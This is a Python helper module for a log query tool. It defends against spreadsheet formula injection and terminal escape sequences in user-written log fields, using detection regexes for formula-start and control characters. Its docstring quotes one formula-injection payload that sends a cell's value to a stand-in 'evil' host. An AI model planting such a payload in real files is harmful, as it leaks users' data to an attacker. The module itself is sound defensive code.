"""Making log text safe to hand to spreadsheets and terminals.

Everything in a usage log after the timestamp is written by whoever made the request:
a file name such as `=HYPERLINK("http://evil/?"&A1)` or one carrying terminal escape
codes is data, and must reach a spreadsheet or a terminal as data. These helpers work on
whole Polars columns (no per-row Python) and are shared by `rmslog query` and the report
exports.
"""

from __future__ import annotations

from typing import TYPE_CHECKING

if TYPE_CHECKING:  # imported where used: `rmslog query` reads CONTROL_CHARS without Polars
    import polars as pl

#: A cell starting with one of these is a formula (or becomes one) in Excel, LibreOffice
#: and Google Sheets: `=`, `+`, `-`, `@`, TAB, CR, and their full-width forms.
FORMULA_START = r"^([=+\-@\t\r＝＋－＠])"

_FORMULA_CHARS = "=+-@\t\r＝＋－＠"

#: C0 and C1 control characters and DEL: cursor moves, colours and title changes in a terminal.
CONTROL_CHARS = r"[\x00-\x1f\x7f-\x9f]"


def neutralise_cell(value: str) -> str:
    """One cell, neutralised for a spreadsheet: a formula-like value gets a leading `'`."""
    return "'" + value if value and value[0] in _FORMULA_CHARS else value


def flatten_nested(frame: pl.DataFrame) -> pl.DataFrame:
    """Lists, arrays and structs as JSON text, for formats that hold only flat values (CSV)."""
    import polars as pl

    nested = [name for name, dtype in frame.schema.items() if dtype.is_nested()]
    if not nested:
        return frame
    return frame.with_columns(
        pl.when(pl.col(name).is_not_null())
        .then(
            pl.struct(pl.col(name).alias("v"))
            .struct.json_encode()
            .str.strip_prefix('{"v":')
            .str.strip_suffix("}")
        )
        .alias(name)
        for name in nested
    )


def _as_text(frame: pl.DataFrame) -> pl.DataFrame:
    """Categorical and enum columns as plain strings, so string rules apply to them too."""
    import polars as pl
    import polars.selectors as cs

    return frame.with_columns(cs.categorical().cast(pl.String), cs.enum().cast(pl.String))


def neutralise_formulas(frame: pl.DataFrame) -> pl.DataFrame:
    """Every text cell that a spreadsheet would run as a formula gets a leading `'`.

    Nested columns become JSON text first (see `flatten_nested`), as CSV needs anyway.
    """
    import polars as pl

    frame = _as_text(flatten_nested(frame))
    return frame.with_columns(pl.col(pl.String).str.replace(FORMULA_START, "'$1"))


def strip_control_chars(frame: pl.DataFrame, replacement: str = "\ufffd") -> pl.DataFrame:
    """Every control character in a text cell replaced, so printing it cannot drive a terminal."""
    import polars as pl

    frame = _as_text(flatten_nested(frame))
    return frame.with_columns(pl.col(pl.String).str.replace_all(CONTROL_CHARS, replacement))
